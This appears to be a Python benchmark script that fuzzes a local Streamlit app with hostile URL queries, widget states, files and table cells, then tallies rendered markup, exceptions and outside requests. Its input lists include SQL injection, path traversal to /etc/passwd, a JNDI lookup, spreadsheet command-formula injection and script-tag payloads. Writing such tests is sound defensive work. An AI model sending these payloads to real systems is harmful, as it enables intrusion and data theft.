"""Send what no reader would: hostile addresses, widget states, files and table cells; count what should never be seen.

``python -m bench.hostile`` prints a table. Nothing in it may be above nought but the inputs and the notices.
"""

import argparse
import json
import random
import re
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import TemporaryFile
from typing import Any
from urllib.parse import quote

from markdown_it import MarkdownIt
from playwright.sync_api import Page
from streamlit.proto.ClientState_pb2 import ClientState
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from streamlit.proto.WidgetStates_pb2 import WidgetState
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Subprotocol

import filters
from bench import servers
from bench.protocol import exchange

PAGES = [
    "", "child", "cohort", "dose", "table", "comparison", "directions", "outcomes", "paper-check", "appraise", "present",
    "speaker-notes", "about",
]  # fmt: skip
# Each names a host that nothing of ours does.
MARKUP = [
    "![x](//zq.co/x)", "[x](//zq.co)", "[x](javascript:alert('zq.co'))", "<img src=//zq.co/x>",
    "<script src=//zq.co></script>", "# zq.co",
    "https://zq.co", "www.zq.co", "a@zq.co", "|zq.co|b|\n|-|-|\n|zq.co|d|", "> zq.co", "- zq.co", "1. zq.co", "**zq.co**",
    "~~zq.co~~", ":red[zq.co]",
    "$zq.co$", "<https://zq.co>", "[^zq.co]: x", "    zq.co", "```\nzq.co\n```",
]  # fmt: skip
BREAKS = ["", "\n", "\n\n", "\r", "\r\n\r\n", "\u2028", "\x00", "\t", "`", "``", "`\n\n", " ", "\\", "\u202e"]
ODD = [
    "-1", "1e309", "nan", "inf", "9" * 3000, "0x10", "true", "null", "None", "[]", "{}", "[" * 5000, '{"a":' * 500,
    "'; DROP TABLE publications; --",
    "1' OR '1'='1", "../../etc/passwd", "%00", "\x00", "\ud7ff", "𝕏" * 50, "{{7*7}}", "${jndi:ldap://zq.co}",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "", " ",
    '{"age": [0, 17]}', '{"age": [17, 0]}', '{"age": ["a"]}', '{"dose": 1}', '{"zq.co": 1}', '"zq.co"', "pediatric",
    "certain", "80", "300",
]  # fmt: skip
# What stands for a link once Markdown is read, and what Streamlit draws in colour.
LATER = re.compile(r"(?i)https?://zq\.co|www\.zq\.co|a@zq\.co|:red\[")
READER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
SLOW = 5000
Tally = Counter[str]


def hostile(chance: random.Random) -> str:
    """Give a text that wants to be something else."""
    if chance.random() < 0.4:
        return chance.choice(ODD)
    return "".join(
        chance.choice(BREAKS) + chance.choice([*MARKUP, *ODD[:20]]) + chance.choice(BREAKS) for _ in range(chance.randint(1, 3))
    )


def drawn(text: str) -> bool:
    """Say whether a browser would make more than words of the part of a Markdown text that is not ours."""
    blocks = READER.parse(text)
    for number, block in enumerate(blocks):
        if block.type in ("html_block", "fence", "code_block") and "zq.co" in block.content:
            return True
        if block.type == "inline" and "zq.co" in block.content and blocks[number - 1].type != "paragraph_open":
            return True
        for token in block.children or []:
            told = f"{token.attrs}" if token.type != "text" else ""
            if "zq.co" in told or (token.type == "html_inline" and "zq.co" in token.content):
                return True
            if token.type in ("text", "text_special") and LATER.search(token.content):
                return True
    return False


def texts(message: ForwardMsg) -> Iterator[str]:
    """Give every text of a message that a browser reads as Markdown."""
    element = message.delta.new_element
    kind = element.WhichOneof("type") or ""
    if kind not in (
        "",
        "code",
        "text",
        "arrow_data_frame",
        "vega_lite_chart",
        "arrow_vega_lite_chart",
        "html",
        "text_input",
        "text_area",
    ):
        part = getattr(element, kind)
        yield from (
            getattr(part, name) for name in ("body", "label", "text", "help") if isinstance(getattr(part, name, None), str)
        )
    block = message.delta.add_block
    yield from (getattr(getattr(block, name), "label", "") for name in ("expandable", "popover"))


def judge(tally: Tally, milliseconds: float, messages: list[ForwardMsg]) -> None:
    """Count what one answer shows."""
    tally["inputs"] += 1
    tally["slowest ms"] = max(tally["slowest ms"], round(milliseconds))
    tally["over 5 s"] += milliseconds > SLOW
    faults = [message for message in messages if message.delta.new_element.HasField("exception")]
    told = [text for message in messages for text in texts(message)]
    tally["exceptions shown"] += bool(faults) or any("could not be drawn" in text for text in told)
    tally["markup"] += any("zq.co" in text and drawn(text) for text in told)
    notices = [text for text in told if text.startswith(("The link ", "Your browser sent", "What is pinned"))]
    tally["notices"] += len(notices)
    tally["addresses sent"] += sum(message.WhichOneof("type") == "page_info_changed" for message in messages)


def query(chance: random.Random) -> str:
    """Give the part of an address behind its question mark."""
    keys = [*filters.CONTROLS, "data", "nonsense", "embed", "filter"]
    if chance.random() < 0.01:
        return "&".join(f"a{number}={'x' * chance.choice([1, 100])}" for number in range(chance.choice([150, 999, 5000])))
    pairs = [
        (chance.choice(keys) if chance.random() < 0.8 else hostile(chance), hostile(chance))
        for _ in range(chance.randint(1, 5))
    ]
    return "&".join(f"{quote(key, errors='ignore')}={quote(value, errors='ignore')}" for key, value in pairs)


def session(server: servers.Server) -> tuple[ClientConnection, ClientState]:
    """Give a new connection, and the state of a browser that has just opened it."""
    stream = f"ws://127.0.0.1:{server.port}/_stcore/stream"
    return connect(stream, subprotocols=[Subprotocol("streamlit")], max_size=None, ping_interval=None), ClientState()


def opened(server: servers.Server, page: str, asked: str) -> tuple[ClientConnection, ClientState, float, list[ForwardMsg]]:
    """Open a page under an address; give the connection, the state for its next run, the time taken and what came."""
    socket, state = session(server)
    state.page_name, state.query_string = page, asked
    state.context_info.url = f"http://127.0.0.1:{server.port}/{page}"
    milliseconds, messages = exchange(socket, state)
    for message in messages:
        if message.WhichOneof("type") in ("new_session", "navigation"):
            state.page_script_hash = getattr(message, str(message.WhichOneof("type"))).page_script_hash
    state.page_name = ""
    return socket, state, milliseconds, messages


def addresses(server: servers.Server, count: int, chance: random.Random) -> Tally:
    """Open pages under hostile addresses, each in a session of its own."""
    tally: Tally = Counter()
    for _ in range(count):
        socket, _, milliseconds, messages = opened(server, chance.choice(PAGES), query(chance))
        judge(tally, milliseconds, messages)
        socket.close()
    return tally


def identities(messages: list[ForwardMsg]) -> list[str]:
    """Give the identity of every widget that messages draw."""
    found = []
    for message in messages:
        element = message.delta.new_element
        if kind := element.WhichOneof("type"):
            found.append(getattr(getattr(element, kind), "id", ""))
        found += [getattr(getattr(message.delta.add_block, name), "id", "") for name in ("expandable", "popover", "dialog")]
    return [one for one in found if isinstance(one, str) and one.startswith("$$ID")]


def state(identity: str, chance: random.Random) -> WidgetState:
    """Give a state that a widget may or may not be able to hold."""
    made = WidgetState(id=identity)
    selection: Any = [[10**9], [-1], ["zq.co"], [[]], {}, None, "zq.co", [{"id": "zq.co"}], [{}], [1], [None]]
    texts = [
        hostile(chance),
        json.dumps({"selection": {chance.choice(["rows", "event", "columns"]): chance.choice(selection)}}),
        json.dumps({"selection": {"rows": chance.choice(selection), "columns": [], "cells": []}}),
        "[" * 9000,
    ]
    match chance.randrange(11):
        case 0:
            made.bool_value = True
        case 1:
            made.int_value = chance.choice([0, -1, 2**31])
        case 2:
            made.double_value = chance.choice([0.0, float("nan"), float("inf")])
        case 3:
            made.trigger_value = True
        case 4 | 5:
            made.string_value = chance.choice(texts)
        case 6 | 7:
            made.string_array_value.data[:] = [hostile(chance) for _ in range(chance.choice([0, 1, 2, 3]))]
        case 8:
            made.string_array_value.data[:] = ["zq.co"] * chance.choice([300, 5000, 50_000])
        case 9:
            made.int_array_value.data[:] = [1, 2, 3]
        case 10:
            made.json_value = chance.choice(texts)
    return made


def states(server: servers.Server, count: int, chance: random.Random) -> Tally:
    """Send hostile states of the widgets of every page; a session is left after some, because some stay in it."""
    tally: Tally = Counter()
    while tally["inputs"] < count:
        socket, asked, _, messages = opened(server, chance.choice(PAGES), chance.choice(["", "card=Pitt+2010&sides=Pinned"]))
        known = identities(messages)
        for _ in range(20):
            sent = ClientState()
            sent.CopyFrom(asked)
            some = chance.sample(known, min(len(known), chance.randint(1, 4)))
            sent.widget_states.widgets.extend(state(one, chance) for one in some)
            judge(tally, *exchange(socket, sent))
        socket.close()
    return tally


def files(count: int, chance: random.Random) -> Tally:
    """Read hostile files of raters: each becomes an appraisal or is refused with a sentence."""
    from appraisal import Appraisal, file

    tally: Tally = Counter()
    items = {"care_1": ["yes", "no"], "grade_bias": []}
    good = json.loads(file.write(Appraisal("Anna", file.now(), "0a1b2c3d", {"care_1": "yes"}, {"grade_bias": "x"})))
    for _ in range(count):
        fields = {
            **good,
            chance.choice([*good, "zq.co"]): chance.choice(
                [hostile(chance), None, 1e308, [], {hostile(chance): hostile(chance)}]
            ),
        }
        content = (
            json.dumps(fields).encode(errors="replace") if chance.random() < 0.8 else hostile(chance).encode(errors="replace")
        )
        started = time.perf_counter()
        try:
            read = file.read(hostile(chance), content, items)
            tally["markup"] += "\n" in read.rater
        except file.AppraisalError:
            tally["notices"] += 1
        tally["inputs"] += 1
        tally["slowest ms"] = max(tally["slowest ms"], round((time.perf_counter() - started) * 1000))
    return tally


def cells(count: int, chance: random.Random) -> Tally:
    """Draw every figure of tables with hostile cells: each table is refused with a sentence, or its texts stay texts."""
    import data
    import figures
    import queries
    from data import notation
    from data.source import Choice
    from widgets import download
    from words import safe

    tally: Tally = Counter()
    folder = Path(__file__).parent.parent / "tests" / "second"
    while tally["inputs"] < count:
        tables = data.read(folder)
        started = time.perf_counter()
        for name, columns in {
            "publications": ["label", "note", "title"],
            "table_rows": ["study_printed", "note", "source"],
        }.items():
            header, *rows = tables[name]
            for row in rows:
                for column in columns:
                    if column in header:
                        row[header.index(column)] = f"{hostile(chance)} zq.co {chance.randrange(10**9)}"
                        tally["inputs"] += 1
        try:
            choice = Choice(queries.source(tables, hostile(chance), hostile(chance), "CC0"))
            for figure in figures.FIGURES:
                asked = filters.sides(choice, choice) if figure.query.startswith("comparison/") else choice
                if figure.filtered and not figure.query.startswith(("case/", "paper/", "outcomes/")):
                    shown = figures.show(figure, asked, **figures.first_settings(figure))
                    tally["markup"] += any(drawn(safe.markdown(text)) for text in [shown.title, shown.caption, shown.short])
                    tally["markup"] += "zq.co" in json.dumps(shown.specification())
                    download.text(shown.rows())
        except (data.DataError, notation.NotationError):
            tally["notices"] += 1
        tally["slowest ms"] = max(tally["slowest ms"], round((time.perf_counter() - started) * 1000))
    return tally


# What a browser made of a text that is not ours.
MADE = """() => {
  const ours = "[data-testid=stCode], [data-testid=stPopover], [data-testid=stBaseLinkButton-secondary]";
  const made = "a, img, iframe, script, h1, h2, h3, table, pre, mark, del, li";
  return [...document.querySelectorAll(`[data-testid=stMain] :is(${made})`)]
    .filter((one) => !one.closest(ours) && /zq[.]co/.test(one.textContent + (one.href ?? "") + (one.src ?? ""))).length;
}"""


def _listen(page: Page) -> tuple[list[str], list[str]]:
    """Give two lists that come to hold what a page asks for and what its console tells."""
    requests: list[str] = []
    console: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("console", lambda message: console.append(message.text))
    return requests, console


def seen(server: servers.Server, count: int, chance: random.Random) -> Tally:
    """Open hostile addresses in a real browser: what it draws, which hosts it asks, and what its console tells."""
    from bench.browser import chromium

    tally: Tally = Counter()
    with chromium() as browser:
        for _ in range(count):
            page = browser.new_page()
            requests, console = _listen(page)
            started = time.perf_counter()
            page.goto(f"http://127.0.0.1:{server.port}/{chance.choice(PAGES)}?{query(chance)[:6000]}")
            page.locator("h1").first.wait_for(timeout=60_000)
            tally["slowest ms"] = max(tally["slowest ms"], round((time.perf_counter() - started) * 1000))
            page.wait_for_timeout(700)
            tally["inputs"] += 1
            tally["over 5 s"] += time.perf_counter() - started > SLOW / 1000
            tally["exceptions shown"] += page.get_by_test_id("stException").count()
            tally["markup"] += page.evaluate(MADE) > 0
            ours = (f"http://127.0.0.1:{server.port}/", "data:", "blob:")
            tally["other hosts"] += any(not url.startswith(ours) for url in requests)
            tally["policy broken"] += any("Content Security Policy" in text for text in console)
            page.close()
    return tally


def main() -> None:
    """Send everything and print the table."""
    parser = argparse.ArgumentParser(prog="python -m bench.hostile", description=__doc__)
    parser.add_argument("--inputs", type=int, default=10_400, help="how many in all")
    parser.add_argument("--seed", type=int, default=1)
    arguments = parser.parse_args()
    share, chance = arguments.inputs // 26, random.Random(arguments.seed)
    names = [
        "inputs",
        "exceptions shown",
        "markup",
        "over 5 s",
        "slowest ms",
        "notices",
        "addresses sent",
        "other hosts",
        "policy broken",
    ]
    print(f"| sent | {' | '.join(names)} |\n| --- |{' ---: |' * len(names)}", flush=True)
    with TemporaryFile("w+") as log, servers.serve(servers.APP, log=log) as server:
        kinds: dict[str, Callable[[], Tally]] = {
            "cells of tables": lambda: cells(3 * share, chance),
            "files": lambda: files(5 * share, chance),
            "widget states": lambda: states(server, 9 * share, chance),
            "addresses": lambda: addresses(server, 9 * share, chance),
            "addresses in a browser": lambda: seen(server, share // 8, chance),
        }
        for kind, send in kinds.items():
            tally = send()
            print(f"| {kind} | {' | '.join(str(tally[name]) for name in names)} |", flush=True)
        log.seek(0)
        lines = log.read().splitlines()
    print(
        f"\nThe log: {len(lines)} lines, {sum('Traceback' in line for line in lines)} tracebacks, "
        f"{sum('zq.co' in line for line in lines)} lines with text that was sent, "
        f"{sum('Refused' in line for line in lines)} calls to other hosts, longest line {max(map(len, lines), default=0)}."
    )
    for line in [line for line in lines if "left out" not in line][-10:]:
        print(line[:200])


if __name__ == "__main__":
    main()
